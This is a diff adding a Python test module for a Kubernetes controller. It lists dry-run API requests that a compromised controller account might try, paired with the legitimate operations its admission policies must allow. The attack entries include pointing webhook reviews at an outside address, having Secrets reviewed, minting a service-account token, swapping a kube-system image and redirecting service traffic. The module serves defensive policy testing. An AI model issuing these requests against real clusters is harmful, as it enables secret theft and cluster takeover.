@@ -1,0 +1,276 @@
+"""What somebody could do who has one of our accounts, and what its program does with it.
+
+All of it is allowed by the printed roles of ``--endpointslices adopt --budgets enforce``; what is
+an attack, the printed policies have to refuse.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from dataclasses import dataclass
+from typing import Any, Literal
+
+from zonewise.controllers.budgets.waking import WOKEN
+from zonewise.disruption.steering import COST, MARK, REDUCE_TO
+from zonewise.install import Obj
+from zonewise.install.wanted import NAME, WEBHOOK, Installation
+from zonewise.runtime.client.client import Client
+
+WANTED = Installation(role="adopt", budgets="enforce", namespace="taken")
+SHOP = "shop-of-taken"
+
+HOOKS = "/apis/admissionregistration.k8s.io/v1"
+VALIDATING = f"{HOOKS}/validatingwebhookconfigurations/{NAME}"
+MUTATING = f"{HOOKS}/mutatingwebhookconfigurations/{NAME}"
+POD = "/api/v1/namespaces/kube-system/pods/dns"
+REPLICA_SET = f"/apis/apps/v1/namespaces/{SHOP}/replicasets/web"
+STATEFUL_SET = f"/apis/apps/v1/namespaces/{SHOP}/statefulsets/db"
+SLICE = f"/apis/discovery.k8s.io/v1/namespaces/{SHOP}/endpointslices/web"
+SERVICE = f"/api/v1/namespaces/{SHOP}/services/web"
+SECRETS = f"/api/v1/namespaces/{WANTED.namespace}/secrets"
+BUDGETS = f"/apis/zonewise.io/v1alpha1/namespaces/{SHOP}/topologydisruptionbudgets"
+
+CONTAINERS = [{"name": "box", "image": "registry.example/box:1"}]
+PRIVILEGED = [{**CONTAINERS[0], "securityContext": {"privileged": True}}]
+SELECTED = {"app": "web"}
+WORKLOAD: Obj = {
+    "selector": {"matchLabels": SELECTED},
+    "template": {"metadata": {"labels": SELECTED}, "spec": {"containers": CONTAINERS}},
+}
+BUDGET_SPEC: Obj = {"selector": {"matchLabels": SELECTED}, "maxUnavailable": 0}
+ROLLOUT: Obj = {
+    "apiVersion": "zonewise.io/v1alpha1",
+    "kind": "DomainRollout",
+    "name": "web",
+    "uid": "0b1c",
+    "controller": True,
+}
+
+
+def victims() -> list[Obj]:
+    """What is on the cluster."""
+
+    def of(version: str, kind: str, name: str, namespace: str = SHOP, **fields: Any) -> Obj:
+        meta = {"name": name, "namespace": namespace}
+        return {"apiVersion": version, "kind": kind, "metadata": meta, **fields}
+
+    ledger_kinds = "zonewise.io/v1alpha1"
+    noted = {"name": "web", "namespace": SHOP, "annotations": {"team": "shop", REDUCE_TO: "1"}}
+    return [
+        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": SHOP}},
+        of("v1", "Pod", "dns", "kube-system", spec={"containers": CONTAINERS}),
+        of("apps/v1", "ReplicaSet", "web", spec={"replicas": 3, **WORKLOAD}) | {"metadata": noted},
+        of("apps/v1", "StatefulSet", "db", spec={"serviceName": "db", **WORKLOAD}),
+        of(
+            "discovery.k8s.io/v1",
+            "EndpointSlice",
+            "web",
+            addressType="IPv4",
+            endpoints=[{"addresses": ["10.0.0.1"], "zone": "a"}],
+            ports=[{"port": 80}],
+        ),
+        of("v1", "Service", "web", spec={"type": "LoadBalancer", "ports": [{"port": 80}]}),
+        of(ledger_kinds, "TopologyDisruptionBudget", "web", spec=BUDGET_SPEC),
+    ]
+
+
+@dataclass(frozen=True)
+class Try:
+    """One request by one account; a PUT changes what is there."""
+
+    what: str
+    account: str
+    method: Literal["PATCH", "POST", "PUT"]
+    path: str
+    body: Any
+
+    async def send(self, account: Client, owner: Client) -> Obj:
+        """Send it, with no effect if it is allowed."""
+        body, kind = self.body, "application/json"
+        if self.method == "PATCH":
+            manner = "json-patch" if isinstance(body, list) else "merge-patch"
+            kind = f"application/{manner}+json"
+        elif isinstance(body, Callable):
+            body = body((await owner.raw("GET", self.path)).json())
+        answer = await account.raw(
+            self.method,
+            self.path,
+            query={"dryRun": "All"},
+            headers={"Content-Type": kind},
+            body=json.dumps(body).encode(),
+        )
+        result: Obj = answer.json()
+        return result
+
+
+def _secret(name: str, **fields: Any) -> Obj:
+    meta = {"name": name, "annotations": {"kubernetes.io/service-account.name": NAME}}
+    return {"apiVersion": "v1", "kind": "Secret", "metadata": meta, **fields}
+
+
+def _budget(**meta: Any) -> Obj:
+    return {
+        "apiVersion": "zonewise.io/v1alpha1",
+        "kind": "TopologyDisruptionBudget",
+        "metadata": {"name": "web-rollout", **meta},
+        "spec": BUDGET_SPEC,
+    }
+
+
+def _with_endpoint(**fields: Any) -> Callable[[Obj], Obj]:
+    return lambda found: found | {"endpoints": [found["endpoints"][0] | fields]}
+
+
+def _at(path: str, value: Any) -> list[Obj]:
+    return [{"op": "add", "path": path, "value": value}]
+
+
+FIRST = "/webhooks/0"
+EVERY_SECRET = {
+    "operations": ["*"],
+    "apiGroups": [""],
+    "apiVersions": ["v1"],
+    "resources": ["secrets"],
+}
+INGRESS = {"loadBalancer": {"ingress": [{"ip": "192.0.2.1"}]}}
+HINTS = {"type": "zonewise.io/Hints", "status": "True", "reason": "Hinted", "message": ""}
+HINTS["lastTransitionTime"] = "2026-01-01T00:00:00Z"
+FOREIGN = HINTS | {"type": "example.com/Ready"}
+TOKEN = "kubernetes.io/service-account-token"
+
+ATTACKS = (
+    Try(
+        "send reviews to another server",
+        WEBHOOK,
+        "PATCH",
+        VALIDATING,
+        [
+            {"op": "add", "path": f"{FIRST}/clientConfig/url", "value": "https://192.0.2.1/read"},
+            {"op": "remove", "path": f"{FIRST}/clientConfig/service"},
+        ],
+    ),
+    Try(
+        "send reviews to another Service",
+        WEBHOOK,
+        "PATCH",
+        MUTATING,
+        _at(f"{FIRST}/clientConfig/service/name", "mine"),
+    ),
+    Try(
+        "have Secrets reviewed", WEBHOOK, "PATCH", VALIDATING, _at(f"{FIRST}/rules/-", EVERY_SECRET)
+    ),
+    Try("take a webhook out", WEBHOOK, "PATCH", MUTATING, [{"op": "remove", "path": FIRST}]),
+    Try(
+        "let failures pass",
+        WEBHOOK,
+        "PATCH",
+        VALIDATING,
+        _at("/webhooks/1/failurePolicy", "Ignore"),
+    ),
+    Try(
+        "get a token of the controller",
+        WEBHOOK,
+        "POST",
+        SECRETS,
+        _secret(WEBHOOK, type=TOKEN),
+    ),
+    Try("keep another Secret", WEBHOOK, "POST", SECRETS, _secret("other", type="Opaque")),
+    Try(
+        "change an image in kube-system",
+        NAME,
+        "PATCH",
+        POD,
+        _at("/spec/containers/0/image", "registry.example/mine"),
+    ),
+    Try("label a pod", NAME, "PATCH", POD, {"metadata": {"labels": SELECTED}}),
+    Try("annotate a pod", NAME, "PATCH", POD, {"metadata": {"annotations": {"mine": "1"}}}),
+    Try(
+        "make a ReplicaSet privileged",
+        NAME,
+        "PATCH",
+        REPLICA_SET,
+        {"spec": {"template": {"spec": {"containers": PRIVILEGED}}}},
+    ),
+    Try("make a ReplicaSet larger", NAME, "PATCH", REPLICA_SET, {"spec": {"replicas": 4}}),
+    Try(
+        "remove another annotation",
+        NAME,
+        "PATCH",
+        REPLICA_SET,
+        {"metadata": {"annotations": {"team": None}}},
+    ),
+    Try(
+        "give a ReplicaSet away",
+        NAME,
+        "PATCH",
+        REPLICA_SET,
+        {"metadata": {"ownerReferences": [ROLLOUT]}},
+    ),
+    Try(
+        "claim replicas of a StatefulSet",
+        NAME,
+        "PATCH",
+        f"{STATEFUL_SET}/status",
+        {"status": {"replicas": 7}},
+    ),
+    Try("send traffic elsewhere", NAME, "PUT", SLICE, _with_endpoint(addresses=["192.0.2.1"])),
+    Try(
+        "have an endpoint ignored", NAME, "PUT", SLICE, _with_endpoint(conditions={"ready": False})
+    ),
+    Try("take an address of a Service", NAME, "PATCH", f"{SERVICE}/status", {"status": INGRESS}),
+    Try(
+        "write a condition of others",
+        NAME,
+        "PATCH",
+        f"{SERVICE}/status",
+        {"status": {"conditions": [FOREIGN]}},
+    ),
+    Try(
+        "open a budget",
+        NAME,
+        "PATCH",
+        f"{BUDGETS}/web",
+        {"spec": {"maxUnavailable": 9}, "metadata": {"ownerReferences": [ROLLOUT]}},
+    ),
+    Try("make a budget of nobody", NAME, "POST", BUDGETS, _budget()),
+)
+
+WORK = (
+    Try(
+        "publish an authority",
+        WEBHOOK,
+        "PATCH",
+        VALIDATING,
+        _at(f"{FIRST}/clientConfig/caBundle", ""),
+    ),
+    Try("keep the certificate", WEBHOOK, "POST", SECRETS, _secret(WEBHOOK, type="Opaque")),
+    Try("mark a pod", NAME, "PATCH", POD, {"metadata": {"annotations": {COST: MARK}}}),
+    Try("wake a workload", NAME, "PATCH", POD, {"metadata": {"annotations": {WOKEN: "now"}}}),
+    Try("lower a ReplicaSet", NAME, "PATCH", REPLICA_SET, {"spec": {"replicas": 2}}),
+    Try(
+        "let a ReplicaSet go",
+        NAME,
+        "PATCH",
+        REPLICA_SET,
+        {"metadata": {"annotations": {REDUCE_TO: None}}, "spec": {"replicas": 1}},
+    ),
+    Try(
+        "advance a StatefulSet",
+        NAME,
+        "PATCH",
+        f"{STATEFUL_SET}/status",
+        {"status": {"currentRevision": "db-2"}},
+    ),
+    Try(
+        "hint an endpoint", NAME, "PUT", SLICE, _with_endpoint(hints={"forZones": [{"name": "a"}]})
+    ),
+    Try(
+        "report hints",
+        NAME,
+        "PATCH",
+        f"{SERVICE}/status",
+        {"status": {"conditions": [HINTS]}},
+    ),
+    Try("make a budget of a rollout", NAME, "POST", BUDGETS, _budget(ownerReferences=[ROLLOUT])),
+)
